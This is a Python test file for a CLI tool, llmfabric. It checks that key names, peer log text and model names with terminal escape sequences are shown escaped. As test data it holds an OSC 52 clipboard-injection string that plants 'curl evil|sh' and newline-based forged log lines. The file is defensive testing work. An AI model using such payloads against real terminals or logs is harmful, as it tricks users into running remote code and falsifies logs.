"""What a terminal and a log see (processes and a database): a key name a key holder chose in
`keys list`/`keys revoke`; a peer's text in the log of `llmfabric start`."""

from __future__ import annotations

import asyncio
import pathlib
import subprocess
import sys

import pytest
from click.testing import CliRunner

from llmfabric.accounts import AccountStore
from llmfabric.accounts.models import ApiKey
from llmfabric.cli.apikeys import API_KEY_COMMANDS

pytestmark = pytest.mark.hostile

OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\"  # writes "curl evil|sh" into the clipboard


async def _hostile_key(db: pathlib.Path) -> ApiKey:
    store = await AccountStore.open(str(db), background=False)
    try:
        holder, _ = await store.create_key("app", "bob")
        key, _ = await store.create_key(OSC52 + "\rok\x1b[8m", "bob", by=holder)
        return key
    finally:
        await store.aclose()


def test_keys_list_escapes_a_key_holders_key_name(tmp_path: pathlib.Path) -> None:
    """Any key may create keys for its owner (POST /v1/fabric/keys) and names them: the
    operator's `keys list` and `keys revoke` print that name."""
    key = asyncio.run(_hostile_key(tmp_path / "accounts.db"))
    cmds = {c.name: c for c in API_KEY_COMMANDS}
    runner = CliRunner()
    env = {"LLMFABRIC_HOME": str(tmp_path), "LLMFABRIC_DB": None}
    listed = runner.invoke(cmds["list"], [], env=env, color=True)  # (as on a terminal)
    revoked = runner.invoke(cmds["revoke"], [key.id], env=env, color=True)
    for out in (listed, revoked):
        assert out.exit_code == 0, out.output
        assert "\x1b" not in out.output and "\r" not in out.output
    assert "\\x1b]52;c;Y3Vy" in listed.output and "app" in listed.output


def test_the_node_log_escapes_peer_text(tmp_path: pathlib.Path) -> None:
    """`llmfabric start`'s log: a request path, a peer's reason or error text logged with %s
    cannot start a forged line or carry an escape sequence to `tail -f`."""
    code = (
        "import logging\n"
        "from llmfabric.cli.start import setup_logging\n"
        "setup_logging(0)\n"
        "log = logging.getLogger('llmfabric.net.serving')\n"
        "log.warning('request handler failed for %s', '/v1/x\\n2026-12-02 ERROR forged"
        "\\x1b]52;c;AAAA\\x07')\n"
        "try:\n"
        "    raise ValueError('peer: no\\nforged too\\x1b[2J')\n"
        "except ValueError:\n"
        "    log.exception('handler failed')\n"
    )
    err = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True, timeout=60).stderr
    assert "\x1b" not in err and "\x07" not in err
    lines = err.splitlines()
    assert not any(ln.startswith(("2026-12-02 ERROR forged", "forged too")) for ln in lines)
    assert lines[0].endswith("request handler failed for /v1/x\\n2026-12-02 ERROR forged"
                             "\\x1b]52;c;AAAA\\x07")
    assert lines[-1] == "ValueError: peer: no\\nforged too\\x1b[2J"


def test_usage_export_on_a_real_terminal_escapes_a_model_name(tmp_path: pathlib.Path) -> None:
    """`keys usage-export` with its stdout on a pseudo-terminal: a client's model name with
    OSC 52 comes out escaped; the same command piped writes it byte for byte."""
    import os
    import pty

    async def ledger() -> None:
        store = await AccountStore.open(str(tmp_path / "accounts.db"), background=False)
        try:
            key, _ = await store.create_key("app", "bob")
            store.record_usage(key.id, "m" + OSC52, 1, 1)
        finally:
            await store.aclose()

    asyncio.run(ledger())
    argv = [sys.executable, "-m", "llmfabric", "keys", "usage-export"]
    env = {**os.environ, "LLMFABRIC_HOME": str(tmp_path)}
    env.pop("LLMFABRIC_DB", None)
    piped = subprocess.run(argv, capture_output=True, env=env, check=True, timeout=60).stdout
    assert ("m" + OSC52).encode() in piped
    leader, follower = pty.openpty()
    try:
        proc = subprocess.run(argv, stdout=follower, stderr=subprocess.PIPE, env=env,
                              check=True, timeout=60)
        assert proc.returncode == 0
        os.close(follower)
        shown = b""
        while True:
            try:
                got = os.read(leader, 65536)
            except OSError:  # (EIO: the terminal's other end is closed)
                break
            if not got:
                break
            shown += got
    finally:
        os.close(leader)
    assert b"\x1b" not in shown and b"m\\x1b]52;c;Y3VybCBldmlsfHNo\\x1b\\" in shown
